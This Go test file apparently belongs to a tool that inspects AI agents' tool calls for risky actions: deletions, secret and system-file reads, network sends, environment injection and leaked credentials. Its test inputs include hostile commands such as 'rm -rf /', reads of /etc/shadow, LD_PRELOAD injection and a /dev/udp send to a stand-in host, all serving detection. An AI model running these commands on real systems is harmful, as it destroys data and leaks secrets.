package facts

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/holdgate/holdgate"
)

var toolTests = []struct{ tool, arguments, category, want string }{
	{"Bash", `{"command":"ls","description":"rm a"}`, "exec", "ls"},
	{"Read", `{"file_path":"/w/.env"}`, "read", "- r /w/.env secret"},
	{"Write", `{"file_path":"a.go","content":"rm -rf / https://x.example"}`, "write", "- w /w/a.go"},
	{"Edit", `{"file_path":"/etc/hosts","old_string":"a","new_string":"b"}`, "write", "- w ^/etc/hosts system"},
	{"MultiEdit", `{"file_path":"a","edits":[{"old_string":"x","new_string":"y"}]}`, "write", "- w /w/a"},
	{"NotebookEdit", `{"notebook_path":"a.ipynb","new_source":"x"}`, "write", "- w /w/a.ipynb"},
	{"Glob", `{"pattern":"**/.env*"}`, "read", "- r /w/**/.env* secret"},
	{"Grep", `{"pattern":"x","path":"/etc"}`, "read", "- r ^/etc system"},
	{"WebFetch", `{"url":"https://User:pw@Example.COM:8443/x","prompt":"y"}`, "network", "@ https://***@Example.COM:8443/x example.com"},
	{"WebFetch", `{"url":"http://[::1]:80/"}`, "network", "@ http://[::1]:80/ ::1"},
	{"WebFetch", `{"url":"http://a.example\\@b.example/"}`, "network", "@ http://a.example\\@b.example/ b.example\n# url that cannot be read"},
	{"WebSearch", `{"query":"select best laptop"}`, "network", ""},
	{"Task", `{"prompt":"rm -rf /","description":"x"}`, "spawn", ""},
	{"TodoWrite", `{"todos":[{"content":"rm"}]}`, "read", ""},
	{"BashOutput", `{"bash_id":"1"}`, "read", ""},
	{"exec_command", `{"cmd":"rm a","workdir":"/tmp"}`, "exec", "rm a\n- d ^/tmp/a"},
	{"shell", `{"command":["bash","-lc","rm a"],"workdir":"sub"}`, "exec", "bash -c: rm a\n- d /w/sub/a"},
	{"apply_patch", `{"input":"*** Begin Patch\n*** Update File: a.go\n*** Move to: b.go\n*** Delete File: /etc/x\n*** End Patch"}`, "write", "- w /w/a.go\n- w /w/b.go\n- d ^/etc/x system"},
	{"apply_patch", `{"command":"*** Begin Patch\n*** Add File: a.go\n+x\n*** Delete File: /etc/x\n*** End Patch"}`, "write", "- w /w/a.go\n- d ^/etc/x system"},
	{"apply_patch", `{"type":"update_file","path":"a.go","diff":"@@"}`, "write", "- w /w/a.go"},
	{"apply_patch", `{"type":"delete_file","path":"/etc/x"}`, "delete", "- d ^/etc/x system"},
	{"shell", `{"commands":["cd /tmp","rm a"],"timeout_ms":5}`, "exec", "cd /tmp\nrm a\n- d ^/tmp/a\n- d /w/a"},
	{"shell", `{"commands":"rm a"}`, "exec", "rm a\n- d /w/a"},
	{"local_shell", `{"type":"exec","command":["rm","a"],"env":{"LD_PRELOAD":"./x"},"working_directory":"sub"}`, "exec", "rm a !./x\n- d /w/sub/a"},
	{"write_stdin", `{"session_id":1,"chars":"rm a\n"}`, "exec", "stdin: rm a ?stdin\n- d ^a"},
	{"view_image", `{"path":"a.png"}`, "read", "- r /w/a.png"},
	{"run_shell_command", `{"command":"rm a","dir_path":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
	{"replace", `{"file_path":"a","old_string":"x","new_string":"y"}`, "write", "- w /w/a"},
	{"web_fetch", `{"prompt":"read https://x.example/a, please"}`, "network", "@ https://x.example/a x.example"},
	{"execute_command", `{"command":"rm a","requires_approval":false}`, "exec", "rm a\n- d /w/a"},
	{"run_commands", `{"commands":["rm a"]}`, "exec", "rm a\n- d /w/a"},
	{"run_commands", `{"commands":["ls","rm a"]}`, "exec", "ls\nrm a\n- d /w/a"},
	{"run_commands", `{"commands":["cd b","rm a"]}`, "exec", "cd b\nrm a\n- d /w/b/a\n- d /w/a"},
	{"run_commands", `{"commands":["rm() { :; }","rm a"]}`, "exec", "function: :\nrm a\n- d /w/a"},
	{"run_commands", `{"commands":[{"command":"rm a"},["rm","b"]]}`, "exec", "rm a\nrm b\n- d /w/a\n- d /w/b"},
	{"write_to_file", `{"path":"a","content":"x"}`, "write", "- w /w/a"},
	{"edit", `{"filePath":"a","oldString":"x","newString":"y"}`, "write", "- w /w/a"},
	{"str_replace_based_edit_tool", `{"command":"view","path":"/etc/passwd"}`, "read", "- r ^/etc/passwd system"},
	{"str_replace_based_edit_tool", `{"command":"create","path":"a"}`, "write", "- w /w/a"},
	{"memory", `{"command":"delete","path":"/memories/a"}`, "delete", "- d ^/memories/a"},
	{"mcp__fs__move_file", `{"source":"a","destination":"b"}`, "write", "- w /w/b\n- w /w/a"},
	{"move_file", `{"source":"a","destination":"/tmp/b"}`, "write", "- w ^/tmp/b\n- d /w/a"},
	{"move_file", `{"source":"a"}`, "write", "- d /w/a"},
	{"mcp__fs__read_multiple_files", `{"paths":["a",".env"]}`, "read", "- r /w/a\n- r /w/.env secret"},
	{"fs__create_directory", `{"path":"x"}`, "write", "- w /w/x"},
	{"mcp__db__query", `{"sql":"drop table x"}`, "database", "= drop table x"},
	{"query", `{"query":"delete from x"}`, "database", "= delete x"},
	{"acme_thing", `{"command":"rm a"}`, "unknown", "rm a\n- d /w/a"},
	{"acme_thing", `{"Command":"rm a","COMMAND":"rm b"}`, "unknown", "rm b\nrm a\n- d /w/b\n- d /w/a"},
	{"acme_thing", `{"query":"drop table x","path":"a","url":"https://e.example/"}`, "unknown", "- w /w/a\n= drop table x\n@ https://e.example/ e.example"},
	{"acme_thing", `{"query":"hello there"}`, "unknown", ""},
	{"acme_delete", `{"path":"a"}`, "unknown", "- d /w/a"},
	{"acme_run", `{"command":"git","args":["push","--force"]}`, "unknown", "git push --force\n+ force"},
	{"acme_thing", `{"x":{"y":[{"file_path":"/etc/x"}]}}`, "unknown", "- w ^/etc/x system"},
	{"Bash", `{"command":"ls","env":{"LD_PRELOAD":"./x.so","A":1}}`, "exec", "ls !./x.so"},
	{"Bash", `{"command":"bash a.sh","env":{"BASH_ENV":"./x"}}`, "exec", "bash a.sh !a.sh !./x\n- r /w/a.sh"},
	{"Bash", `{"command":"ls","env":["PAGER=rm a"]}`, "exec", "PAGER: rm a\nls\n- d /w/a"},
	{"Bash", `{"command":"$X a","environment":[{"name":"X","value":"rm"}]}`, "exec", "rm a\n- d /w/a"},
	{"Bash", `{"command":"sh","stdin":"rm a"}`, "exec", "heredoc,sh: rm a\n- d /w/a"},
	{"Bash", `{"command":"ls","code":"rm -rf /"}`, "exec", "code: ? \"rm -rf /\" ?rm -rf /\nls"},
	{"run_code", `{"command":"ls","code":"x()"}`, "exec", "code: ? x() ?x()\nls"},
	{"Write", `{"file_path":"a","content":"x","output_dir":"/etc"}`, "write", "- w /w/a\n- w ^/etc system"},
	{"Write", `{"file_path":"a","content":"x","backup_path":"/etc/x"}`, "write", "- w ^/etc/x system\n- w /w/a"},
	{"Read", `{"file_path":"a","log_file":"b"}`, "read", "- r /w/a\n- w /w/b"},
	{"acme_thing", `{"profile":"dev"}`, "unknown", ""},
	{"Bash", `{"command":"cat x > /dev/udp/E.example/53"}`, "network", "cat x\n- r /w/x\n@ udp://e.example:53 e.example"},
	{"Bash", `{"command":5}`, "exec", "# command is neither text nor list"},
	{"acme", `{"a":1,"a":2}`, "unknown", "# arguments are not one strict JSON object"},
	{"acme", `{"a":[{"__proto__":{"path":"/etc/passwd"}}]}`, "unknown", "- w ^/etc/passwd system\n# an argument is named __proto__, whose members some agents take for arguments"},
	{"acme", `[1]`, "unknown", "# arguments are not one strict JSON object"},
	{"acme", `{}`, "unknown", ""},
	{"computer", `{"action":"screenshot"}`, "read", ""},
	{"computer", `{"actions":[{"type":"screenshot"},{"type":"wait"}]}`, "read", ""},
	{"computer", `{"action":{"type":"click","x":1,"y":2}}`, "exec", ""},
	{"computer", `{"actions":[{"type":"screenshot"},{"type":"type","text":"rm a\n"}]}`, "exec", "stdin: rm a ?stdin\n- d ^a"},
	{"computer", `{"action":"type","text":"rm a\n"}`, "exec", "stdin: rm a ?stdin\n- d ^a"},
	{"computer", `{}`, "exec", ""},
	{"shell_command", `{"command":"rm a","workdir":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
	{"patch", `{"patchText":"*** Begin Patch\n*** Delete File: a\n*** End Patch"}`, "write", "- d /w/a"},
	{"read_files", `{"file_paths":["a",".env"]}`, "read", "- r /w/a\n- r /w/.env secret"},
	{"grep_files", `{"pattern":"rm a","path":"src"}`, "read", "- r /w/src"},
	{"read_mcp_resource", `{"server":"fs","uri":"file:///etc/shadow"}`, "read", "- r ^/etc/shadow secret\n@ file:///etc/shadow "},
	{"fetch_webpage", `{"urls":["https://a.example/","https://b.example/x"],"query":"y"}`, "network", "@ https://a.example/ a.example\n@ https://b.example/x b.example"},
	{"multi_replace_string_in_file", `{"replacements":[{"filePath":"a","oldString":"x","newString":"y"},{"filePath":"/etc/x"}]}`, "write", "- w /w/a\n- w ^/etc/x system"},
	{"job_kill", `{"shell_id":"1"}`, "read", ""},
	{"kill_process", `{"pid":1}`, "exec", ""},
	{"StrReplace", `{"path":"a","old_string":"x","new_string":"y"}`, "write", "- w /w/a"},
	{"Delete", `{"path":"a"}`, "delete", "- d /w/a"},
	{"executeBash", `{"command":"rm a","path":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
	{"terminal", `{"command":"rm a","cd":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
	{"shell_exec", `{"id":"main","exec_dir":"/tmp","command":"rm a"}`, "exec", "rm a\n- d ^/tmp/a"},
	{"fsWrite", `{"path":"a.md","text":"rm -rf /"}`, "write", "- w /w/a.md"},
	{"fs_write", `{"command":"create","path":"/etc/x","file_text":"y"}`, "write", "- w ^/etc/x system"},
	{"fs_read", `{"operations":[{"mode":"Line","path":".env"}]}`, "read", "- r /w/.env secret"},
	{"view_file", `{"AbsolutePath":"/w/.env","StartLine":0}`, "read", "- r /w/.env secret"},
	{"replace_file_content", `{"TargetFile":"/etc/x","ReplacementContent":"y"}`, "write", "- w ^/etc/x system"},
	{"find_path", `{"glob":"**/.env*"}`, "read", "- r /w/**/.env* secret"},
	{"move_path", `{"source_path":"a","destination_path":"/tmp/b"}`, "write", "- w ^/tmp/b\n- d /w/a"},
	{"copy_path", `{"source_path":"/etc/x","destination_path":"b"}`, "write", "- w /w/b\n- r ^/etc/x system"},
	{"delete_path", `{"path":"a"}`, "delete", "- d /w/a"},
	{"read_url_content", `{"Url":"https://a.example/"}`, "network", "@ https://a.example/ a.example"},
	{"str_replace_editor", `{"command":"view","path":"/w/.env"}`, "read", "- r /w/.env secret"},
	{"str_replace_editor", `{"command":"create","path":"/etc/x","file_text":"rm -rf /"}`, "write", "- w ^/etc/x system"},
	{"str-replace-editor", `{"command":"str_replace","path":"a","old_str_1":"x","new_str_1":"y"}`, "write", "- w /w/a"},
	{"file_editor", `{"command":"undo_edit","path":"a"}`, "write", "- w /w/a"},
	{"launch-process", `{"command":"rm a","cwd":"sub","wait":true}`, "exec", "rm a\n- d /w/sub/a"},
	{"write-process", `{"terminal_id":1,"input_text":"rm a\n"}`, "exec", "stdin: rm a ?stdin\n- d ^a"},
	{"remove-files", `{"file_paths":["a"]}`, "delete", "- d /w/a"},
	{"find_symbol", `{"name_path":"Cart/add","relative_path":"src"}`, "read", "- r /w/src"},
	{"replace_symbol_body", `{"name_path":"Cart","relative_path":"src/a.ts","body":"x"}`, "write", "- w /w/src/a.ts"},
	{"use_aws", `{"service_name":"ec2","operation_name":"terminate-instances","parameters":{"InstanceIds":["i-1"],"--force":"","dry_run":"x"},"region":"eu-west-1","profile_name":"prod","label":"rm a"}`, "exec",
		`aws ec2 terminate-instances --force --instance-ids "[\"i-1\"]" --dry-run x --region eu-west-1 --profile prod`},
	{"aws", `{"service_name":"s3","operation_name":"ls"}`, "exec", "aws s3 ls"},
	{"aws", `{}`, "exec", ""},
	{"finish", `{"message":"done"}`, "read", ""},
	{"mcp__orders__finish", `{"message":"done"}`, "unknown", ""},
	{"orders.finish", `{"message":"done"}`, "unknown", ""},
	{"create", `{"path":"/etc/x","file_text":"y"}`, "write", "- w ^/etc/x system"},
	{"file_write", `{"file":"/etc/x","content":"y"}`, "write", "- w ^/etc/x system"},
	{"file_read", `{"file":".env"}`, "read", "- r /w/.env secret"},
	{"view_files", `{"files":["a",".env"]}`, "read", "- r /w/a\n- r /w/.env secret"},
	{"json_edit_tool", `{"operation":"set","file_path":"a.json","json_path":"$.a","value":1}`, "write", "- w /w/a.json"},
	{"smartRelocate", `{"sourcePath":"a.ts","destinationPath":"/tmp/b.ts"}`, "write", "- w ^/tmp/b.ts\n- d /w/a.ts"},
	{"taskStatus", `{"taskFilePath":"tasks.md","task":"1"}`, "read", "- w /w/tasks.md"},
	{"exit_plan_mode", `{"plan_path":"a.md"}`, "read", "- r /w/a.md"},
	{"oracle", `{"task":"rm a","context":"rm b","files":["src/a.ts"]}`, "spawn", "- r /w/src/a.ts"},
	{"run_slash_command", `{"command":"rm a"}`, "spawn", ""},
	{"browser_preview", `{"Url":"http://localhost:3000"}`, "network", "@ http://localhost:3000 localhost"},
	{"execute_ipython_cell", `{"code":"x()"}`, "exec", ""},
	{"use_mcp_tool", `{"server_name":"db","tool_name":"query","arguments":"{\"sql\":\"drop table x\"}"}`, "database", "= drop table x"},
	{"use_mcp_tool", `{"server_name":"db","tool_name":"query","arguments":{"sql":"drop table x"}}`, "database", "= drop table x"},
	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{\"path\":\".env\"}"}`, "read", "- r /w/.env secret"},
	{"use_mcp_tool", `{"server_name":"fs","tool_name":"list_allowed_directories"}`, "read", ""},
	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"rm a"}`, "read", "# arguments are not one strict JSON object"},
	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{}","command":"rm a"}`, "unknown", "rm a\n- d /w/a"},
	{"use_mcp_tool", `{"server_name":"fs","tool_name":"delete_all__read_file","arguments":"{}"}`, "unknown", ""},
	{"use_mcp_tool", `{"server_name":"fs","arguments":"{}"}`, "unknown", ""},
	{"mcp__fs__use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{}"}`, "unknown", ""},
}

func TestTools(t *testing.T) {
	for _, tt := range toolTests {
		t.Run(tt.tool+tt.arguments, func(t *testing.T) {
			f := Extract(context.Background(), toolCall(tt.tool, tt.arguments), patient)
			if f.Category != tt.category {
				t.Errorf("category %q, want %q", f.Category, tt.category)
			}
			if diff := cmp.Diff(tt.want, render(f)); diff != "" {
				t.Errorf("facts (-want +got):\n%s", diff)
			}
		})
	}
}

// A name of an agent's own tool, where it is a server's, says nothing.
func TestAnAgentsOwnToolIsNoServers(t *testing.T) {
	for name, edit := range map[string]func(*holdgate.Tool){
		"at its server's door":                                func(t *holdgate.Tool) { t.Server = "orders" },
		"where a server that is known has a tool of the name": func(t *holdgate.Tool) { t.Learned = &holdgate.Learned{Server: "orders", Tool: "finish"} },
	} {
		c := toolCall("finish", `{"message":"done"}`)
		tool := *c.Tool
		edit(&tool)
		c.Tool = &tool
		if f := Extract(context.Background(), c, patient); f.Category != "unknown" {
			t.Errorf("%s it is %s", name, f.Category)
		}
	}
}

func TestTextInsideOfAWrappedCall(t *testing.T) {
	arguments := `{"server_name":"fs","tool_name":"read_file","arguments":"{\"x\":\"a\\u202ey \\u0041KIAABCDEFGHIJKLMNOP\"}"}`
	f := Extract(context.Background(), toolCall("use_mcp_tool", arguments), patient)
	if diff := cmp.Diff([]string{"bidi"}, f.SuspiciousText); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]Secret{{Kind: "aws_access_key", Pointer: "/arguments"}}, f.Secrets); diff != "" {
		t.Error(diff)
	}
}

func TestTextOfArguments(t *testing.T) {
	tests := []struct{ name, arguments, secrets, suspicious string }{
		{"an AWS key is seen where it stands", `{"a":{"b/c":["x AKIAABCDEFGHIJKLMNOP"]}}`, "aws_access_key /a/b~1c/0", ""},
		{"a private key is seen", `{"a":"-----BEGIN RSA PRIVATE KEY-----"}`, "private_key /a", ""},
		{"a GitHub token is seen", `{"a":"ghp_012345678901234567890123456789abcdef"}`, "github_token /a", ""},
		{"quotes that divide a token hide nothing", `{"command":"curl -H x:gh'p_'0123456789\"01234567890123456789\"abcdef u"}`, "github_token /command", ""},
		{"nor do backslashes and continued lines", `{"command":"echo g\\hp_01234567890123456789\\\n0123456789abcdef"}`, "github_token /command", ""},
		{"quotes between words join nothing", `{"command":"echo 'AKIA' '0123456789ABCDEF'"}`, "", ""},
		{"a password in an address is seen", `{"a":"postgres://u:secret@h/x"}`, "url_password /a", ""},
		{"a word that only contains a prefix is none", `{"a":"task-abcdefghijklmnopqrstuvwxyz0123456789"}`, "", ""},
		{"a public key is none", `{"a":"-----BEGIN PUBLIC KEY-----"}`, "", ""},
		{"deceiving characters are named", `{"a":"x\u202ey\u200bz\u00a0"}`, "", "bidi unusual_space zero_width"},
		{"so are those in keys", `{"a\u200b":1}`, "", "zero_width"},
		{"a terminal's escape is a control character", `{"command":"ls \u001b[2J"}`, "", "control"},
		{"mixed scripts in a host are named", `{"url":"http://аpple.com/"}`, "", "mixed_script"},
		{"plain text is plain", `{"a":"Grüße\n\tzusammen"}`, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := Extract(context.Background(), toolCall("acme", tt.arguments), patient)
			var secrets []string
			for _, s := range f.Secrets {
				secrets = append(secrets, s.Kind+" "+s.Pointer)
			}
			if got := strings.Join(secrets, "; "); got != tt.secrets {
				t.Errorf("secrets %q, want %q", got, tt.secrets)
			}
			if got := strings.Join(f.SuspiciousText, " "); got != tt.suspicious {
				t.Errorf("suspicious %q, want %q", got, tt.suspicious)
			}
		})
	}
}
